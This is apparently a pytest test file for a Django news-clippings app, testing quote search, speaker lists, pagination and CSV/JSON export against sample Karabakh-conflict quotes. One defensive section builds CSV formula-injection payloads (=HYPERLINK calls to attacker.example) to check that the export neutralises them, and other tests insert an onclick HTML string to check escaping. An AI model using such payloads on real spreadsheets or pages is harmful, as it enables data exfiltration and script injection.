"""Quote search: who said what, when, and through whom; its exports and the speakers list."""

import csv
import datetime
import io
import json

import pytest
from django.urls import reverse

from clippings.exports import COLUMN_NAMES
from clippings.models import Article, Quote, Source, Speaker, Update

from .factories import (
    ArticleFactory,
    ParagraphFactory,
    QuoteFactory,
    SourceFactory,
    SpeakerFactory,
    UpdateFactory,
)
from .test_speaker_names import NAMES_IN_THE_TEXT

SEARCH = reverse("clippings:quote-search")
SPEAKERS = reverse("clippings:speaker-list")


def results(client, **params):
    response = client.get(SEARCH, params)
    assert response.status_code == 200, response.content.decode()[:500]
    return response, list(response.context["object_list"])


@pytest.mark.parametrize(
    ("slug", "name"), [(slug, name) for slug, names in NAMES_IN_THE_TEXT.items() for name in names]
)
def test_searching_a_speaker_by_each_of_their_names_returns_exactly_their_quotes(
    client, karabakh, slug, name
):
    _, quotes = results(client, speaker=name)
    assert {quote.pk for quote in quotes} == set(
        Quote.objects.filter(speaker__slug=slug).values_list("pk", flat=True)
    )


def test_three_spellings_of_the_ministry_find_the_same_quotes(client, karabakh):
    found = [
        {q.pk for q in results(client, speaker=name)[1]}
        for name in (
            "Azeri Defense Ministry",
            "Azerbaijani Defence Ministry",
            "azeri defence ministry",
        )
    ]
    assert found[0] == found[1] == found[2]
    assert (
        len(found[0]) == Quote.objects.filter(speaker__slug="azerbaijani-defence-ministry").count()
    )


def test_result_shows_speaker_intermediary_channel_and_links_to_the_paragraph(client, karabakh):
    response, quotes = results(client, speaker="Putin", kind="partial")
    html = response.content.decode()
    assert [quote.words for quote in quotes] == [
        "to exercise restraint so as to avert new human casualties"
    ]
    assert "Vladimir Putin</a> (President of Russia), via Kremlin spokesman" in html
    assert "Dmitry Peskov</a>, news agency report through" in html
    assert ">Interfax</a>" in html
    assert f'href="{quotes[0].paragraph.get_absolute_url()}"' in html


def test_full_text_query_finds_a_quote_by_its_words_best_first(client, karabakh):
    _, quotes = results(client, q="downed helicopter lie")
    assert quotes[0].words.startswith("the information about the downed helicopter")


def test_speaker_with_no_match_says_so_and_suggests_the_closest_names(client, karabakh):
    response, quotes = results(client, speaker="Vladimir Puttin")
    html = response.content.decode()
    assert quotes == []
    assert "No speaker in the archive goes by “Vladimir Puttin”" in html
    assert '<a href="?speaker=Vladimir%20Putin">Vladimir Putin</a>' in html


@pytest.mark.parametrize(
    ("typed", "offered"),
    [
        ("Steinmeir", ["Frank-Walter Steinmeier"]),
        ("Sargsian", ["Serzh Sargsyan"]),
        ("Pesko Dmitri", ["Dmitry Peskov"]),
        ("Xyz Qwerty", []),
    ],
)
def test_did_you_mean_offers_only_names_plausibly_meant(client, karabakh, typed, offered):
    response, _ = results(client, speaker=typed)
    assert response.context["suggestions"] == offered
    if not offered:
        assert "Did you mean" not in response.content.decode()


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"kind": "reported", "speaker": "Titzian"}, 2),
        ({"channel": "social_media"}, 2),
        ({"source": "interfax"}, 2),
        ({"affiliation": "Germany"}, 1),
        ({"said_after": "2016-03-01", "said_before": "2016-03-31"}, 1),
        ({"article": "armenia-azerbaijan-karabakh-conflict-escalates"}, 26),
    ],
)
def test_filters_narrow_the_quotes(client, karabakh, params, expected):
    assert len(results(client, **params)[1]) == expected


@pytest.mark.parametrize(
    "params",
    [
        {"kind": "sarcastic"},
        {"source": "no-such-outlet"},
        {"said_after": "2016-02-30"},
        {"article": "x y"},
    ],
)
def test_invalid_filters_are_a_400_with_the_reason(client, karabakh, params):
    response = client.get(SEARCH, params)
    assert response.status_code == 400
    assert "The filters could not be applied" in response.content.decode()


def test_said_before_earlier_than_said_after_is_a_400_beside_said_before(client, karabakh):
    response = client.get(SEARCH, {"said_after": "2016-05-01", "said_before": "2016-04-01"})
    assert response.status_code == 400
    assert (
        '<ul class="errorlist" id="id_said_before_error"><li>'
        "This date is earlier than the “Said on or after” date.</li></ul>"
    ) in response.content.decode()


@pytest.mark.django_db
def test_quotes_of_draft_clippings_are_not_searchable(client):
    quote = QuoteFactory(article=ArticleFactory(status=Article.Status.DRAFT))
    quote.paragraph.article = quote.article
    assert results(client, speaker=quote.speaker.name)[1] == []


def test_editing_a_quote_in_the_admin_changes_the_next_search(admin_client, client, karabakh):
    quote = Quote.objects.get(words="This corner of the world has been long ignored")
    assert quote in results(client, q="ignored")[1]
    url = reverse("admin:clippings_quote_change", args=[quote.pk])
    form = admin_client.get(url).context["adminform"].form
    data = {name: form[name].value() for name in form.fields}
    data = {k: ("" if v is None else v) for k, v in data.items()}
    data["words"] = "This corner of the world"
    response = admin_client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    assert quote not in results(client, q="ignored")[1]
    assert quote in results(client, q="corner world")[1]


def test_csv_export_streams_every_result_with_the_documented_columns(client, karabakh):
    response = client.get(SEARCH, {"speaker": "azeri defence ministry", "format": "csv"})
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert list(rows[0]) == COLUMN_NAMES
    assert len(rows) == Quote.objects.filter(speaker__slug="azerbaijani-defence-ministry").count()
    assert {row["speaker"] for row in rows} == {"Azerbaijani Defence Ministry"}
    kerry = next(r for r in client_rows(client, "json", speaker="Kerry"))
    assert kerry["said_on"] == "2016-03-30"


def client_rows(client, export_format, **params):
    response = client.get(SEARCH, {**params, "format": export_format})
    return json.loads(b"".join(response.streaming_content))


def test_json_export_has_the_same_rows_as_the_page(client, karabakh):
    rows = client_rows(client, "json", q="helicopter")
    _, quotes = results(client, q="helicopter")
    assert [row["quote_id"].split("#")[1] for row in rows] == [q.anchor for q in quotes]
    assert rows[0]["url"].startswith("http://testserver/articles/")
    assert list(rows[0]) == COLUMN_NAMES
    quote = Quote.objects.get(article__slug=rows[0]["article_slug"], anchor=quotes[0].anchor)
    assert rows[0]["permalink"] == f"http://testserver{quote.get_absolute_url()}"
    assert client.get(rows[0]["permalink"]).status_code == 200
    assert rows[0]["article_outlet"] == ""  # the clipping does not say


def test_unknown_export_format_or_bad_filters_in_an_export_are_a_400(client, karabakh):
    assert client.get(SEARCH, {"format": "xlsx"}).status_code == 400
    response = client.get(SEARCH, {"format": "csv", "kind": "sarcastic"})
    assert response.status_code == 400
    assert "kind" in response.content.decode()


def test_speakers_list_counts_published_quotes_and_filters_by_affiliation_and_kind(
    client, karabakh
):
    response = client.get(SPEAKERS)
    counts = {s.slug: s.quote_count for s in response.context["object_list"]}
    for slug in ("azerbaijani-defence-ministry", "vladimir-putin", "maria-titzian"):
        assert counts[slug] == Quote.objects.filter(speaker__slug=slug).count()
    assert "dmitry-peskov" not in counts  # relays, but is not quoted
    people = client.get(SPEAKERS, {"kind": "person", "affiliation": "Armenia"})
    assert {s.slug for s in people.context["object_list"]} == {"serzh-sarksyan", "maria-titzian"}
    assert client.get(SPEAKERS, {"kind": "robot"}).status_code == 400


@pytest.mark.parametrize(
    ("typed", "listed"),
    [
        ("sargsyan", {"serzh-sarksyan"}),  # an alias
        ("Azeri Defense Ministry", {"azerbaijani-defence-ministry"}),
        ("ministry", {"azerbaijani-defence-ministry", "nagorno-karabakh-defence-ministry"}),
        ("nobody atall", set()),
        ("!!!", set()),
    ],
)
def test_speakers_list_finds_a_speaker_by_any_name_or_spelling(client, karabakh, typed, listed):
    response = client.get(SPEAKERS, {"name": typed})
    assert response.status_code == 200
    assert {speaker.slug for speaker in response.context["object_list"]} == listed


@pytest.mark.django_db
def test_speakers_list_shows_a_hundred_speakers_a_page_each_once_with_their_own_counts(client):
    """Namesakes too: the list is in name order, and pages never share or skip a speaker."""
    article = ArticleFactory()
    for number in range(105):
        speaker = SpeakerFactory(name=f"Speaker {number // 2:03}")
        for _ in range(number % 3 + 1):
            QuoteFactory(paragraph=ParagraphFactory(article=article), speaker=speaker)

    pages = [client.get(SPEAKERS), client.get(SPEAKERS, {"page": 2})]
    assert [len(page.context["object_list"]) for page in pages] == [100, 5]
    assert "105 speakers" in pages[1].content.decode()
    shown = [speaker for page in pages for speaker in page.context["object_list"]]
    assert [speaker.name for speaker in shown] == sorted(speaker.name for speaker in shown)
    assert len({speaker.pk for speaker in shown}) == 105
    for speaker in shown:
        assert speaker.quote_count == speaker.quotes.count()
    assert client.get(SPEAKERS, {"page": 3}).status_code == 404
    assert client.get(SPEAKERS, {"page": "next"}).status_code == 404


def speakers_shown(client, **params):
    response = client.get(SPEAKERS, params)
    assert response.status_code == 200, response.content.decode()[:500]
    return [speaker.name for speaker in response.context["object_list"]]


def quote_by(speaker, said_on, article=None):
    article = article or ArticleFactory(published_on=datetime.date(2016, 4, 3))
    QuoteFactory(paragraph=ParagraphFactory(article=article), speaker=speaker, said_on=said_on)


@pytest.mark.django_db
def test_speakers_list_orders_by_most_quotes_and_by_latest_quote_ties_by_name(client):
    day = datetime.date(2016, 4, 1)
    speakers = [("Ann", 1, 9), ("Bob", 3, 2), ("Cem", 2, 5), ("Dan", 2, 9)]
    for name, quotes, latest in speakers:
        speaker = SpeakerFactory(name=name)
        for number in range(quotes):
            quote_by(speaker, day + datetime.timedelta(latest - number))
    # A draft's quotes are not counted, nor are their dates.
    draft = ArticleFactory(status=Article.Status.DRAFT)
    for _ in range(5):
        quote_by(Speaker.objects.get(name="Ann"), datetime.date(2020, 1, 1), draft)

    assert speakers_shown(client) == ["Ann", "Bob", "Cem", "Dan"]
    assert speakers_shown(client, order="most-quoted") == ["Bob", "Cem", "Dan", "Ann"]
    assert speakers_shown(client, order="latest-quote") == ["Ann", "Dan", "Cem", "Bob"]
    page = client.get(SPEAKERS, {"order": "latest-quote"}).content.decode()
    assert '<time datetime="2016-04-10">10 Apr 2016</time>' in page
    assert '<option value="latest-quote" selected>Latest quote first</option>' in page
    # Listed by name, each speaker shows the same latest date as when ranked.
    for order in ("", "latest-quote"):
        listed = client.get(SPEAKERS, {"order": order} if order else {}).context["object_list"]
        latest = {speaker.name: speaker.latest_quote_on for speaker in listed}
        assert latest == {name: day + datetime.timedelta(n) for name, _, n in speakers}


@pytest.mark.django_db
def test_speakers_ordered_by_quotes_page_a_hundred_at_a_time_each_once(client):
    article = ArticleFactory()
    for number in range(105):
        speaker = SpeakerFactory(name=f"Speaker {number:03}")
        for _ in range(number % 4 + 1):
            QuoteFactory(paragraph=ParagraphFactory(article=article), speaker=speaker)

    pages = [client.get(SPEAKERS, {"order": "most-quoted", "page": n}) for n in (1, 2)]
    shown = [speaker for page in pages for speaker in page.context["object_list"]]
    assert len({speaker.pk for speaker in shown}) == 105
    counts = [speaker.quote_count for speaker in shown]
    assert counts == sorted(counts, reverse=True)
    assert client.get(SPEAKERS, {"order": "-name"}).status_code == 400
    assert client.get(SPEAKERS, {"order": "most-quoted", "page": 3}).status_code == 404


@pytest.mark.django_db
def test_quote_search_pages_run_oldest_first_each_quote_once(client):
    """Fifty quotes a page, by the date each was said (else printed), pages never sharing or
    skipping a quote, whatever order they were entered in."""
    article = ArticleFactory(published_on=datetime.date(2016, 4, 3))
    speaker = SpeakerFactory(name="Hikmet Hajiyev")
    for number in range(120):
        said_on = (
            None if number % 4 == 0 else datetime.date(2016, 4, 2) - datetime.timedelta(number % 37)
        )
        QuoteFactory(paragraph=ParagraphFactory(article=article), speaker=speaker, said_on=said_on)

    pages = [results(client, speaker="Hajiyev", page=number)[1] for number in (1, 2, 3)]
    assert [len(page) for page in pages] == [50, 50, 20]
    shown = [quote for page in pages for quote in page]
    assert len({quote.pk for quote in shown}) == 120
    dates = [quote.date for quote in shown]
    assert dates == sorted(dates)
    assert dates[-1] == article.published_on


def build_quotes(count):
    speaker = SpeakerFactory(name="Ilham Aliyev", affiliation="Azerbaijan")
    for _ in range(count):
        paragraph = ParagraphFactory(article=ArticleFactory())
        QuoteFactory(paragraph=paragraph, article=paragraph.article, speaker=speaker)
        QuoteFactory(paragraph=paragraph, article=paragraph.article, intermediary=speaker)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "params",
    [{}, {"speaker": "Aliyev"}, {"q": "give up"}, {"speaker": "aliyev", "kind": "partial"}],
)
def test_quote_search_runs_as_many_queries_for_many_quotes_as_for_few(
    client, params, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    build_quotes(3)
    with CaptureQueriesContext(connection) as few:
        client.get(SEARCH, params)
    build_quotes(30)
    with django_assert_max_num_queries(len(few.captured_queries)):
        client.get(SEARCH, params)


@pytest.mark.django_db
@pytest.mark.parametrize("params", [{}, {"order": "most-quoted"}, {"order": "latest-quote"}])
def test_speakers_list_runs_as_many_queries_for_many_speakers_as_for_few(
    client, params, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    build_quotes(2)
    with CaptureQueriesContext(connection) as few:
        client.get(SPEAKERS, params)
    build_quotes(20)
    assert Speaker.objects.count() > 20
    with django_assert_max_num_queries(len(few.captured_queries)):
        client.get(SPEAKERS, params)


def test_export_columns_are_the_ones_the_readme_documents():
    import re
    from pathlib import Path

    from django.conf import settings

    readme = (Path(settings.BASE_DIR) / "README.md").read_text(encoding="utf-8")
    section = readme.split("### Exporting quotes", 1)[1].split("\n## ", 1)[0]
    assert re.findall(r"^\| `(\w+)` \|", section, flags=re.MULTILINE) == COLUMN_NAMES


# Cells that begin like a spreadsheet formula

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
TEXT_COLUMNS = [
    "words",
    "speaker",
    "speaker_role",
    "speaker_affiliation",
    "speaker_as_printed",
    "intermediary",
    "channel_source",
    "channel_as_printed",
    "said_on_as_printed",
    "article_headline",
    "update_label",
    "article_outlet",
]


def formula(start, column):
    return f'{start}HYPERLINK("http://attacker.example/?{column}","Open")'


def quote_beginning_every_cell_with(start):
    """A published quote whose every text column begins with ``start``.

    The text is written with ``update()``, around the models' rules, as an old row or raw SQL
    would store it: the models keep a carriage return as a line feed.
    """
    outlet = SourceFactory()
    article = ArticleFactory(outlet=outlet)
    update = UpdateFactory(article=article)
    speaker, intermediary, source = SpeakerFactory(), SpeakerFactory(), SourceFactory()
    quote = QuoteFactory(
        paragraph=ParagraphFactory(article=article, update=update),
        speaker=speaker,
        intermediary=intermediary,
        channel=Quote.Channel.NEWS_AGENCY,
        channel_source=source,
    )
    columns = {
        (Article, article.pk): {"headline": "article_headline"},
        (Update, update.pk): {"label": "update_label"},
        (Speaker, speaker.pk): {
            "name": "speaker",
            "role": "speaker_role",
            "affiliation": "speaker_affiliation",
        },
        (Speaker, intermediary.pk): {"name": "intermediary"},
        (Source, source.pk): {"name": "channel_source"},
        (Source, outlet.pk): {"name": "article_outlet"},
        (Quote, quote.pk): {
            "words": "words",
            "speaker_as_printed": "speaker_as_printed",
            "channel_as_printed": "channel_as_printed",
            "said_on_as_printed": "said_on_as_printed",
        },
    }
    for (model, pk), fields in columns.items():
        model.objects.filter(pk=pk).update(
            **{field: formula(start, column) for field, column in fields.items()}
        )
    quote.refresh_from_db()
    return quote


def csv_text(client, **params):
    response = client.get(SEARCH, {**params, "format": "csv"})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.mark.django_db
@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_csv_export_puts_a_single_quote_before_a_cell_that_begins_like_a_formula(client, start):
    quote = quote_beginning_every_cell_with(start)
    text = csv_text(client, article=quote.article.slug)
    [row] = csv.DictReader(io.StringIO(text, newline=""))
    assert {column: row[column] for column in TEXT_COLUMNS} == {
        column: "'" + formula(start, column) for column in TEXT_COLUMNS
    }
    assert row["quote_id"] == f"{quote.article.slug}#{quote.anchor}"
    assert row["url"].startswith("http://testserver/articles/")


@pytest.mark.django_db
@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_json_export_keeps_a_value_that_begins_like_a_formula_verbatim(client, start):
    quote = quote_beginning_every_cell_with(start)
    [row] = client_rows(client, "json", article=quote.article.slug)
    assert {column: row[column] for column in TEXT_COLUMNS} == {
        column: formula(start, column) for column in TEXT_COLUMNS
    }


@pytest.mark.parametrize(
    ("typed", "note"),
    [
        ("Sargsyan", "Matched “Serzh Sargsyan”, an alias of"),
        ("Azeri Defense Ministry", "Matched “Azeri Defense Ministry”, an alias of"),
        ("Sarksyan", None),  # the filed name
        ("serzh-sarksyan", None),  # a slug names the speaker
    ],
)
def test_a_speaker_found_under_an_alias_says_which(client, karabakh, typed, note):
    response, quotes = results(client, speaker=typed)
    html = response.content.decode()
    assert quotes
    if note:
        speaker = quotes[0].speaker
        assert f'{note} <a href="{speaker.get_absolute_url()}">{speaker.name}</a>.' in html
    else:
        assert "an alias of" not in html


def test_search_results_mark_the_words_that_matched_stemmed_forms_too(client, karabakh):
    """ "helicopters" marks "helicopter", "downed" marks "down": the engine's stems."""
    _, quotes = results(client, q="helicopters downed lie")
    assert quotes[0].marked_words.startswith(
        "the information about the <mark>downed</mark> <mark>helicopter</mark> was absolute "
        "<mark>lie</mark>"
    )
    _, quotes = results(client, q="helicopters")
    assert len(quotes) > 1
    assert all("<mark>helicopter</mark>" in quote.marked_words for quote in quotes)


@pytest.mark.django_db
def test_marked_results_keep_the_words_escaped(client):
    words = 'we said <b onclick="x()">never</b> again'
    QuoteFactory(words=words, paragraph=ParagraphFactory(text=f"He said “{words}”."))
    html = client.get(SEARCH, {"q": "never"}).content.decode()
    assert "&lt;b onclick=&quot;x()&quot;&gt;<mark>never</mark>&lt;/b&gt; again" in html
    assert '<b onclick="x()">' not in html


def test_results_without_words_searched_mark_nothing(client, karabakh):
    assert "<mark>" not in client.get(SEARCH, {"speaker": "Putin"}).content.decode()


def quoted(words):
    return QuoteFactory(words=words, paragraph=ParagraphFactory(text=f"He said “{words}”."))


@pytest.mark.django_db
def test_quote_search_finds_cease_fire_by_ceasefire_and_ceasefire_by_cease_fire(client):
    hyphenated = quoted("appeals for a cease-fire from various organizations")
    joined = quoted("violating a 1994 ceasefire")
    quoted("the fire went on")
    for query in ("cease-fire", "ceasefire", "cease–fire"):
        assert {quote.pk for quote in results(client, q=query)[1]} == {hyphenated.pk, joined.pk}


@pytest.mark.django_db
@pytest.mark.parametrize("query", ["ceasefire", "cease-fire", "CEASE-FIRE", "ceasefires"])
def test_search_results_mark_the_hyphenated_word_whole(client, query):
    quoted("appeals for a cease-fire from various organizations")
    quoted("violating a 1994 ceasefire")
    marked = {quote.marked_words for quote in results(client, q=query)[1]}
    assert marked == {
        "appeals for a <mark>cease-fire</mark> from various organizations",
        "violating a 1994 <mark>ceasefire</mark>",
    }


@pytest.mark.django_db
def test_a_part_searched_marks_only_that_part_of_the_hyphenated_word(client):
    quoted("appeals for a cease-fire")
    _, quotes = results(client, q="fire")
    assert [quote.marked_words for quote in quotes] == ["appeals for a cease-<mark>fire</mark>"]


@pytest.mark.django_db
def test_marked_hyphenated_words_keep_the_words_escaped(client):
    quoted('<b onclick="x()">cease-fire</b> & stand-off')
    html = client.get(SEARCH, {"q": "ceasefire standoff"}).content.decode()
    assert (
        "&lt;b onclick=&quot;x()&quot;&gt;<mark>cease-fire</mark>&lt;/b&gt; &amp; "
        "<mark>stand-off</mark>" in html
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query", ["-", "--", "cease-", "-fire", "a-b-c-d-e-f", "-".join(["fire"] * 40), "-" * 200]
)
def test_a_query_of_odd_hyphens_gets_a_normal_page(client, query):
    quoted("appeals for a cease-fire")
    _, quotes = results(client, q=query)
    assert all(quote.words for quote in quotes)


@pytest.mark.django_db
def test_a_hyphen_chain_longer_than_the_field_is_a_400_saying_so(client):
    response = client.get(SEARCH, {"q": "-".join(["fire"] * 1000)})
    assert response.status_code == 400
    assert 'role="alert"' in response.content.decode()


@pytest.mark.django_db
def test_a_tag_page_offers_its_clippings_quotes_to_search_and_download(client):
    from .factories import TagFactory

    tag = TagFactory(name="ceasefire talks", slug="ceasefire-talks")
    tagged, other = ArticleFactory(), ArticleFactory()
    tagged.tags.add(tag)
    for article, words in [(tagged, "We will hold the line"), (other, "Talks resume")]:
        QuoteFactory(paragraph=ParagraphFactory(article=article, text=words), words=words)

    page = client.get(reverse("clippings:tag-detail", args=[tag.slug])).content.decode()
    assert '<a href="/quotes/?tag=ceasefire-talks">search them</a>' in page
    assert '<a href="/quotes/?tag=ceasefire-talks&amp;format=csv" download>CSV</a>' in page

    _, shown = results(client, tag="ceasefire-talks")
    assert [quote.words for quote in shown] == ["We will hold the line"]
    download = client.get(SEARCH, {"tag": "ceasefire-talks", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode())))
    assert [row["words"] for row in rows] == ["We will hold the line"]
    assert "quotes-ceasefire-talks.csv" in download["Content-Disposition"]
    refused = client.get(SEARCH, {"tag": "no-such-tag"})
    assert refused.status_code == 400
    assert "No published clipping carries this tag." in refused.content.decode()
